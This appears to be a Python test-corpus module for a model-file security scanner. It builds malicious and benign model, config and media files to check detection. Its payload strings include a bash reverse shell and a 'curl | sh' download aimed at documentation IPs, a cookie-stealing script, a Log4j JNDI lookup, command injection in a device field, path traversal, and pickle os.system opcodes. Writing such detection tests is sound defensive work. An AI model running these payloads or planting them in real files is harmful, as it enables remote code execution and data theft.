"""Programs that travel as descriptions: in metadata, attributes and values of configurations; and programs behind the
first bytes of pictures, sounds and texts. Ordinary words about programs stand among the good cases."""

from __future__ import annotations

import base64
import json
import pickle

from . import keras_format as keras
from . import msgpack, tensors
from .assembler import inert_pickle
from .case import Shelf
from .confusion import elf, pe
from .onnx_format import attribute, graph, model, node
from .repository_cases import LETTERS, drawn
from .tensorflow_format import graph as tensorflow_graph
from .tensorflow_format import meta_graph, saved_model
from .tensorflow_format import node as tensorflow_node
from .variants import JPEG
from .zipwriter import Member, zip_bytes

PYTHON = "import os; os.system('echo waag-inert')"
PROGRAMS = {
    "python": PYTHON,
    "import-call": "__import__('os').system('echo waag-inert')",
    "decoded": "exec(__import__('base64').b64decode('cGFzcw=='))",
    "page": "<script>fetch('http://example.invalid/' + document.cookie)</script>",
    "reverse-shell": "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
    "download": "curl http://203.0.113.7/waag-inert | sh",
    "base64": base64.b64encode(PYTHON.encode()).decode(),
    "database": "jdbc:h2:mem:;INIT=RUNSCRIPT FROM 'http://example.invalid/waag-inert.sql'",
    "logger": "${jndi:ldap://example.invalid/waag-inert}",
    "command": "python3 -c 'import os; os.system(\"echo waag-inert\")'",
}


def booster(**more: object) -> bytes:
    trees = {"gbtree_model_param": {"num_trees": "0"}, "trees": [], "tree_info": []}
    learner = {"attributes": {}, "feature_names": [], "feature_types": [], "gradient_booster": {"model": trees, "name": "gbtree"},
               "learner_model_param": {"num_class": "0", "num_feature": "1", "base_score": "0.5"}, "objective": {"name": "reg:squarederror"}}
    return json.dumps({"version": [2, 0, 0], "learner": learner | more}).encode()


def symbol(note: str) -> bytes:
    return json.dumps({"nodes": [{"op": "null", "name": "data", "inputs": []}], "arg_nodes": [0], "heads": [[0, 0, 0]], "attrs": {"note": note}}).encode()


def described(text: str) -> dict[str, tuple[bytes, str]]:
    """The same description in each format that has some: (content, name)."""
    return {
        "safetensors": (tensors.plain_safetensors({"description": text}), "model.safetensors"),
        "gguf": (tensors.model_gguf(extra=[tensors.pair("general.description", 8, text)]), "model.gguf"),
        "onnx": (model(metadata={"note": text}), "model.onnx"),
        "onnx-attribute": (model(graph([node("Identity", ["x"], ["y"], [attribute("note", text)])])), "model.onnx"),
        "json": (json.dumps({"model_type": "bert", "hook": text}).encode(), "config.json"),
        "yaml": (f"model: x\nhook: {json.dumps(text)}\n".encode(), "config.yaml"),
        "toml": (f"[model]\nhook = {json.dumps(text)}\n".encode(), "model_config.toml"),
        "xgboost": (booster(attributes={"note": text}), "model.json"),
        "msgpack": (msgpack.pack({"params": {"a": 1}, "hook": text}), "flax_model.msgpack"),
        "mxnet": (symbol(text), "model-symbol.json"),
    }


def carried() -> Shelf:
    shelf = Shelf("descriptions", source="construction, after the metadata that modelaudit's tests write")
    for id, text in PROGRAMS.items():
        for format, (content, name) in described(text).items():
            shelf.bad(f"{format}-{id}", content, f"{format}: a description that is a program ({id})", name=name)
    shelf.bad("xgboost-key", booster(hook="os.system('echo waag-inert')"), "a call where a booster keeps settings", name="model.json")
    shelf.bad("gguf-key-path", tensors.model_gguf(extra=[tensors.pair("../../../etc/passwd", 8, "x")]), "a key that is a path", name="model.gguf")
    shelf.bad("template-elsewhere", json.dumps({"model": {"custom": "{{ config.__class__.__init__.__globals__ }}"}}).encode(), "a template under a name of its own", name="tokenizer_config.json")
    shelf.bad("onnx-library", model(graph([node("Odd", ["x"], ["y"], [attribute("path", "/tmp/libwaag_inert.so")], domain="waag")]), opsets=[("", 13), ("waag", 1)]), "an attribute that is a library", name="model.onnx")
    device = "/device:GPU:0;$(echo waag-inert)"
    shelf.bad("tensorflow-device", saved_model(meta_graph(tensorflow_graph([tensorflow_node("x", "NoOp", device=device)]))), "a device that is none", name="saved_model.pb")
    shelf.bad("layer-outside", json.dumps({"layers": ["../outside/layer.tar.gz"]}).encode(), "a manifest whose layer lies outside", name="image.manifest")
    shelf.bad("keras-module", keras.archive(keras.sequential(keras.layer("Dense", {"units": 1, "fn_module": "subprocess"}))), "a module beside a class", name="model.keras", source="cve-2025-1550")
    shelf.bad("keras-function", keras.archive(keras.sequential(keras.layer("Dense", {"units": 1, "fn": "get_file", "url": "http://example.invalid/x"}))), "a function beside a class", name="model.keras", source="cve-2025-8747")
    text = {"class_name": "Sequential", "config": {"layers": [], "note": "keras.config.enable_unsafe_deserialization"}}
    shelf.bad("keras-unsafe", keras.archive(text), "safe mode is named to be lifted", name="model.keras", source="cve-2025-9906")
    chain = {"lc": 1, "type": "constructor", "id": ["langchain", "chains", "LLMMathChain"], "kwargs": {}}
    shelf.bad("langchain-class", json.dumps(chain).encode(), "a chain that evaluates what a model writes", name="chain.json")
    token = "hf_" + drawn(34, LETTERS)
    shelf.bad("pickled-credential", pickle.dumps({"config": {"token": token}}, 4), "a credential in a pickle")
    return shelf


HOSTS = {
    "gif": b"GIF89a\1\0\1\0\0\0\0;", "jpeg": JPEG, "pdf": b"%PDF-1.4\n1 0 obj\n<<>>\nendobj\n%%EOF\n", "flac": b"fLaC\0\0\0\x22" + bytes(34), "ogg": b"OggS\0" + bytes(40), "mp3": b"ID3\3\0\0\0\0\0\x0a" + bytes(10),
    "mp4": b"\0\0\0\x18ftypmp42\0\0\0\0mp42isom",
}
BEHIND = {"python": b"\nimport os\nos.system('echo waag-inert')\n", "script": b"\n#!/bin/sh\necho waag-inert\n", "php": b"<?php system('echo waag-inert'); ?>", "elf": elf(), "pe": pe()}


def behind() -> Shelf:
    shelf = Shelf("behind-pictures", source="construction")
    for host, start in HOSTS.items():
        for what, program in BEHIND.items():
            shelf.bad(f"{host}-{what}", start + program, f"{what} behind the first bytes of {host}", name=f"preview.{host}")
    old = b"cos\nsystem\n(S'echo waag-inert'\ntR."
    shelf.bad("text-pickle", b"the weights of a model; its card says more about them\n" + old, "a text that ends with a pickle", name="weights.txt")
    shelf.bad("text-script", b"the weights of a model\n\n#!/bin/sh\ncurl http://203.0.113.7/waag-inert | sh\n", "a text that goes on as a script", name="weights.txt")
    shelf.bad("comment-pickle", b"#cos\nsystem\n(S'echo waag-inert'\ntR.", "a pickle behind a single character", name="payload.txt")
    shelf.bad("look-up-then-junk", b"cposix\nsystem\n#\n(S'echo waag-inert'\ntR.", "a look-up, and a byte that is no opcode", name="payload.bin")
    shelf.bad("tail-elf", pickle.dumps({"a": 1}, 4) + b"padding" + elf(), "a program behind a pickle", name="model.bin")
    shelf.bad("tail-stub", pickle.dumps({"a": 1}, 4) + b"MZ" + b"\x90" * 60 + b"This program cannot be run in DOS mode", "the start of a Windows program behind a pickle", name="model.bin")
    shelf.bad("stub-alone", b"MZ" + b"\x90" * 60 + b"This program cannot be run in DOS mode" + bytes(200), "a Windows program whose header is damaged", name="pytorch_model.bin")
    shelf.bad("left-behind", b"\x80\x04]" + b"2" * 150 + b".", "values that are made and left behind", source="fickling's expansion tests")
    return shelf


def good() -> Shelf:
    shelf = Shelf("good-descriptions")
    words = {
        "words": "trained to find os.system and eval in source code; see the evaluation script",
        "sentence": "We call os.system('ls') in the example, which is why scanners flagged version 1.",
        "install": "pip install transformers, then import os and run python train.py",
        "code": "import torch\nmodel = torch.nn.Linear(2, 2)\nprint(model.eval())",
        "base64": base64.b64encode(b"a fingerprint of the training set, version 3").decode(),
        "html": "<p>A model of <b>JavaScript</b> and its <script> tags</p>",
    }
    for id, text in words.items():
        for format, (content, name) in described(text).items():
            shelf.good(f"{format}-{id}", content, f"{format}: {id}", name=name)
    shelf.good("root-pickle", zip_bytes([Member("version", b"3\n"), Member("data.pkl", pickle.dumps({"a": [1.0, 2.0]}, 2))]), "an archive with its pickle at the root", name="model.pt")
    shelf.good("programs-as-data", json.dumps([{"prompt": "list files", "canonical_solution": PYTHON}]).encode(), "a dataset of programs", name="humaneval.json")
    shelf.good("readme-pickle", b"# Pickles\n\nWhat one looks like:\n\n    cos\n    system\n    (S'id'\n    tR.\n", "a document about pickles", name="README.md")
    shelf.good("hidden-words", pickle.dumps({"note": "os.system", "code": inert_pickle(0)[:0]}, 4), "words in a pickle")
    return shelf
